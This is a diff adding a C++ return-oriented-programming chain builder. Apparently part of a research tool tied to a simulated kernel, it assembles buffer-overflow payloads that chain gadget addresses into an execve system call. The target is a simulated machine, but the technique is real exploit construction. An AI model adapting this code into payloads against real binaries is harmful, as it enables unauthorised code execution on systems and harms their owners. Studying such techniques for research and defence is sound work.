@@ -1,0 +1,58 @@
+#include "rop/chain.hpp"
+
+#include "sim/kernel.hpp"
+#include "support/error.hpp"
+
+namespace crs::rop {
+
+namespace {
+
+void append_u64(std::vector<std::uint8_t>& bytes, std::uint64_t v) {
+  for (int i = 0; i < 8; ++i)
+    bytes.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
+}
+
+}  // namespace
+
+ChainBuilder::ChainBuilder(std::span<const Gadget> gadgets)
+    : gadgets_(gadgets) {}
+
+bool ChainBuilder::can_build_execve() const {
+  return find_pop(gadgets_, 0) != nullptr && find_pop(gadgets_, 1) != nullptr &&
+         find_syscall(gadgets_) != nullptr;
+}
+
+OverflowPayload ChainBuilder::build_execve_payload(
+    const ExecveChainSpec& spec) const {
+  const Gadget* pop_r1 = find_pop(gadgets_, 1);
+  const Gadget* pop_r0 = find_pop(gadgets_, 0);
+  const Gadget* sys = find_syscall(gadgets_);
+  CRS_ENSURE(pop_r1 != nullptr, "no `pop r1; ret` gadget in the catalogue");
+  CRS_ENSURE(pop_r0 != nullptr, "no `pop r0; ret` gadget in the catalogue");
+  CRS_ENSURE(sys != nullptr, "no `syscall; ret` gadget in the catalogue");
+  CRS_ENSURE(spec.filler_length >= spec.binary_path.size() + 1,
+             "filler too small to embed the path string");
+
+  OverflowPayload payload;
+  payload.path_offset = 0;
+  payload.pop_r1_gadget = pop_r1->address;
+  payload.pop_r0_gadget = pop_r0->address;
+  payload.syscall_gadget = sys->address;
+
+  // Filler with the NUL-terminated path embedded at the front. The rest is
+  // the paper's 'D' padding.
+  payload.bytes.assign(spec.binary_path.begin(), spec.binary_path.end());
+  payload.bytes.push_back(0);
+  payload.bytes.resize(spec.filler_length, 'D');
+
+  // The chain proper.
+  append_u64(payload.bytes, pop_r1->address);
+  append_u64(payload.bytes, spec.buffer_address + payload.path_offset);
+  append_u64(payload.bytes, pop_r0->address);
+  append_u64(payload.bytes, sim::kSysExecve);
+  append_u64(payload.bytes, sys->address);
+  append_u64(payload.bytes, spec.resume_address);
+  return payload;
+}
+
+}  // namespace crs::rop
